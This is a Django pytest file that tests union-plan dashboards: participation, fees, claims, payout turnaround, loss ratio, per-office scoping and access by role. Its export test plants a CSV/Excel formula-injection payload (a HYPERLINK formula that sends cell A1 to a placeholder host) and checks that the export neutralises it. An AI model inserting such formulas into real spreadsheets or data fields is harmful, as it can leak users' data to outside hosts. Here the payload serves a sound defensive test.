"""The dashboards: figures on a small known data set, the scope, the roles and the exports."""

from __future__ import annotations

import datetime
from decimal import Decimal
from io import BytesIO

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from claims.models import Claim, Payout
from enrollment import dashboards
from enrollment.models import Roster
from tests import factories

TZ = timezone.get_current_timezone()


def at(day: datetime.date, hour: int = 10) -> datetime.datetime:
    return datetime.datetime.combine(day, datetime.time(hour), tzinfo=TZ)


@pytest.fixture
def data(world):
    version = factories.catalog_version("jilin-allowance-2020")
    plan = version.plan
    # Unit A: headcount 100 (< 200 → must enroll 100%), one member enrolled: under threshold.
    enrollment_a = factories.enroll(world.member_a, version)
    # Unit B: headcount 2, both enrolled: 100%, not marked.
    world.unit_b.headcount = 2
    world.unit_b.save()
    factories.enroll(world.member_b, version)
    factories.enroll(factories.MemberFactory(union=world.unit_b), version)
    # A cancelled enrollment does not count.
    factories.enroll(factories.MemberFactory(union=world.unit_a), version, status="cancelled")
    # The other office's figures must never show.
    other_enrollment = factories.enroll(world.other_member, version)

    factories.RosterFactory(
        union=world.unit_a,
        plan_version=version,
        status=Roster.Status.PAID,
        fee_total=Decimal("220.00"),
        payment_amount=Decimal("200.00"),
        payment_date=datetime.date(2026, 1, 5),
    )
    factories.RosterFactory(
        union=world.unit_b,
        plan_version=version,
        status=Roster.Status.APPROVED,
        fee_total=Decimal("330.00"),
    )
    # Checked but not submitted: nothing is due yet.
    factories.RosterFactory(union=world.unit_b, plan_version=version, fee_total=Decimal("999.00"))
    factories.RosterFactory(
        union=world.other_unit,
        plan_version=version,
        status=Roster.Status.PAID,
        fee_total=Decimal("5000.00"),
        payment_amount=Decimal("5000.00"),
    )

    # A claim paid 5 working days after its documents were complete (Mon 2 → Mon 9 March).
    paid = factories.ClaimFactory(
        enrollment=enrollment_a,
        status=Claim.Status.PAID,
        approved_amount=Decimal("1000.00"),
        completed_at=at(datetime.date(2026, 3, 2)),
        due_date=datetime.date(2026, 3, 16),
        paid_at=at(datetime.date(2026, 3, 9), 15),
    )
    Payout.objects.create(
        claim=paid,
        kind=Payout.Kind.PRIMARY,
        amount=Decimal("1000.00"),
        payee_name=paid.payee_name,
        payee_account=paid.payee_account,
        status=Payout.Status.PAID,
        paid_at=paid.paid_at,
        granted_by=world.office_staff,
    )
    reported = factories.ClaimFactory(enrollment=enrollment_a, status=Claim.Status.REPORTED)
    Claim.objects.filter(pk=paid.pk).update(reported_at=at(datetime.date(2026, 2, 20)))
    Claim.objects.filter(pk=reported.pk).update(reported_at=at(datetime.date(2026, 4, 3)))
    other = factories.ClaimFactory(
        enrollment=other_enrollment, status=Claim.Status.APPROVED, approved_amount=Decimal("77")
    )
    Payout.objects.create(
        claim=other,
        kind=Payout.Kind.PRIMARY,
        amount=Decimal("77.00"),
        payee_name=other.payee_name,
        payee_account=other.payee_account,
        granted_by=world.other_office_staff,
    )
    return plan


def by_first(table: dashboards.Table) -> dict:
    return {row.values[0]: row for row in table.rows}


def test_participation_rate_and_threshold(world, data):
    table = dashboards.participation(world.office_staff)
    rows = by_first(table)
    assert set(rows) == {"甲单位工会", "乙单位工会", "丙单位工会"}
    a = rows["甲单位工会"]
    assert a.values[2:7] == [data.name, 100, 1, Decimal("0.0100"), Decimal("1.00")]
    assert a.warn
    b = rows["乙单位工会"]
    assert b.values[3:7] == [2, 2, Decimal("1.0000"), Decimal("1.00")]
    assert not b.warn
    c = rows["丙单位工会"]  # nobody enrolled: listed, no plan, not marked
    assert c.values[2] == "" and c.values[4] == 0 and not c.warn
    assert [bar.warn for bar in table.bars] == [True, False]


def test_fees_due_and_collected(world, data):
    rows = by_first(dashboards.fees(world.office_staff))
    assert rows["甲单位工会"].values[3:8] == [
        1,
        Decimal("220.00"),
        Decimal("200.00"),
        Decimal("20.00"),
        Decimal("0.9091"),
    ]
    assert rows["乙单位工会"].values[4:7] == [Decimal("330.00"), Decimal("0.00"), Decimal("330.00")]
    total = rows["Total"] if "Total" in rows else rows["合计"]
    assert total.values[3:7] == [2, Decimal("550.00"), Decimal("200.00"), Decimal("350.00")]


def test_claims_by_status_and_month(world, data):
    table = dashboards.claims(world.office_staff)
    figures = [(r.values[0], r.values[1], r.values[3], r.values[4]) for r in table.rows]
    assert figures == [
        ("2026-02", data.name, 1, Decimal("1000.00")),
        ("2026-04", data.name, 1, Decimal("0.00")),
    ]
    assert [(bar.label, bar.value) for bar in table.bars] == [("2026-02", 1), ("2026-04", 1)]


def test_payouts_turnaround_and_ratio(world, data):
    payouts = dashboards.payouts(world.office_staff)
    assert payouts.rows[-1].values[3:] == [1, Decimal("1000.00")]
    turnaround = dashboards.turnaround(world.office_staff)
    plan_row = turnaround.rows[0]
    assert plan_row.values == [data.name, 1, 5, 5, 10, 1, Decimal("1.0000")]
    assert not plan_row.warn
    ratio = dashboards.loss_ratio(world.office_staff)
    assert ratio.rows[0].values == [
        data.name,
        Decimal("200.00"),
        Decimal("1000.00"),
        Decimal("1000.00"),
        Decimal("5.0000"),
    ]


def test_percentile_and_working_days():
    assert dashboards.percentile([], 0.9) is None
    assert dashboards.percentile(list(range(1, 11)), 0.9) == 9
    assert dashboards.percentile([3], 0.9) == 3


def test_other_office_sees_none_of_it(world, data):
    user = world.other_office_staff
    assert {r.values[0] for r in dashboards.participation(user).rows} == {"外办事处单位工会"}
    assert [r.values[4] for r in dashboards.fees(user).rows][0] == Decimal("5000.00")
    assert all(
        r.values[3] != 1 or r.values[4] != Decimal("1000.00") for r in dashboards.claims(user).rows
    )
    assert dashboards.turnaround(user).rows == []
    assert dashboards.payouts(user).rows[-1].values[4] == Decimal("77.00")


def test_page_for_office_staff_and_auditor_only(client, world, data):
    url = reverse("enrollment:dashboards")
    for user in (world.office_staff, world.auditor):
        client.force_login(user)
        response = client.get(url)
        assert response.status_code == 200
        html = response.content.decode()
        assert "甲单位工会" in html and "外办事处单位工会" not in html
        assert "<svg" in html and "table-danger" in html
        assert "style=" not in html.split("<main", 1)[1]
    for user in (world.clerk_a, world.plan_admin, world.county_staff_a):
        client.force_login(user)
        assert client.get(url).status_code == 403
        export = reverse("enrollment:dashboard_export", args=["fees"])
        assert client.get(export).status_code == 403


def test_export_is_scoped_and_neutralised(client, world, data):
    world.unit_a.name = '=HYPERLINK("http://x/?"&A1,"click")'
    world.unit_a.save()
    client.force_login(world.auditor)
    response = client.get(reverse("enrollment:dashboard_export", args=["participation"]))
    assert response.status_code == 200
    sheet = load_workbook(BytesIO(response.content)).active
    rows = list(sheet.iter_rows(values_only=True))
    names = [row[0] for row in rows[1:]]
    assert "'" + world.unit_a.name in names
    assert world.unit_a.name not in names
    assert rows[names.index("'" + world.unit_a.name) + 1][5] == pytest.approx(0.01)
    for slug in dashboards.TABLES:
        response = client.get(reverse("enrollment:dashboard_export", args=[slug]))
        assert response.status_code == 200, slug
        load_workbook(BytesIO(response.content))
    assert client.get("/dashboards/nothing.xlsx").status_code == 404

    # Another office's export holds none of office A's rows.
    client.force_login(world.other_office_staff)
    response = client.get(reverse("enrollment:dashboard_export", args=["participation"]))
    rows = list(load_workbook(BytesIO(response.content)).active.iter_rows(values_only=True))
    assert [row[0] for row in rows[1:]] == ["外办事处单位工会"]
    response = client.get(reverse("enrollment:dashboard_export", args=["turnaround"]))
    rows = list(load_workbook(BytesIO(response.content)).active.iter_rows(values_only=True))
    assert len(rows) == 1  # the header only
